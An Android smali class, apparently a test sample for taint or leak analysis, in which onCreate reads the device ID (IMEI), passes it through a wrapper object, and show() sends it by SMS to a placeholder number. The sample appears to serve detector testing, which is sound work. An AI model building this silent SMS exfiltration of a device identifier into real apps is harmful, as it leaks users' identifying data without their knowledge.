.class public Lt/Main;
.super Landroid/app/Activity;

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 14
    new-instance v0, Lt/Box;
    const/4 v1, 0x0
    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    invoke-direct {v0, v1}, Lt/Box;-><init>(Ljava/lang/String;)V
    invoke-direct {p0, v0}, Lt/Main;->show(Lt/Box;)V
    return-void
.end method

.method private show(Lt/Box;)V
    .registers 12
    invoke-virtual {p1}, Lt/Box;->get()Ljava/lang/String;
    move-result-object v5
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v2
    const-string v3, "+49 1234"
    const/4 v4, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    invoke-virtual/range {v2 .. v7}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
